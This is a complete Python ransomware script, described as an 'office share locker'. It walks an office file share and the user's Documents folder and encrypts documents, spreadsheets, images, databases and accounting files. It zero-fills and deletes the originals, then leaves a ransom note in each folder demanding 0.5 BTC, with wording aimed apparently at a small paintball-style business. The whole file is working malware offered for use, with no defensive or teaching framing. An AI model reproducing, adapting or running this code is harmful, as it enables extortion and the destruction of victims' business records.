#!/usr/bin/env python3
"""Office share locker.

Walks the office file share, seals every document and spreadsheet, and
leaves instructions in each folder on how to get them back.
"""

import argparse
import logging
import os
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("share-lock")

TARGET_SUFFIXES = {
    ".docx", ".xlsx", ".pdf", ".csv", ".jpg", ".png", ".db",
    ".sqlite", ".odt", ".ods", ".txt", ".zip", ".qbw",
}
LOCKED_SUFFIX = ".splat"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE_TEXT = """Your booking records, waivers and accounts have been sealed.

To receive the restore key, send 0.5 BTC to the address below and email
your site ID to restore@paintpay.example.

Site ID: {site_id}
"""


class Locker:
    def __init__(self, key, site_id):
        self.fernet = Fernet(key)
        self.site_id = site_id
        self.count = 0
        self.skipped = 0

    def should_lock(self, path):
        return (path.suffix.lower() in TARGET_SUFFIXES
                and not path.name.endswith(LOCKED_SUFFIX)
                and path.name != NOTE_NAME)

    def lock_file(self, path):
        try:
            data = path.read_bytes()
        except OSError:
            self.skipped += 1
            return
        sealed = self.fernet.encrypt(data)
        out = path.with_name(path.name + LOCKED_SUFFIX)
        out.write_bytes(sealed)
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(data))
        path.unlink()
        self.count += 1

    def drop_note(self, folder):
        note = folder / NOTE_NAME
        if not note.exists():
            note.write_text(NOTE_TEXT.format(site_id=self.site_id))

    def walk(self, root):
        for dirpath, _dirnames, filenames in os.walk(root):
            folder = Path(dirpath)
            touched = False
            for name in filenames:
                path = folder / name
                if self.should_lock(path):
                    self.lock_file(path)
                    touched = True
            if touched:
                self.drop_note(folder)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("roots", nargs="*",
                        default=["/srv/office-share", str(Path.home() / "Documents")])
    parser.add_argument("--site-id", default=os.environ.get("SITE_ID", "PB-0417"))
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(message)s")

    key = Fernet.generate_key()
    locker = Locker(key, args.site_id)
    for root in args.roots:
        if os.path.isdir(root):
            LOG.info("processing %s", root)
            locker.walk(root)

    key_file = Path("/tmp/.k_" + args.site_id)
    key_file.write_bytes(key)
    LOG.info("sealed %d files, skipped %d", locker.count, locker.skipped)


if __name__ == "__main__":
    main()
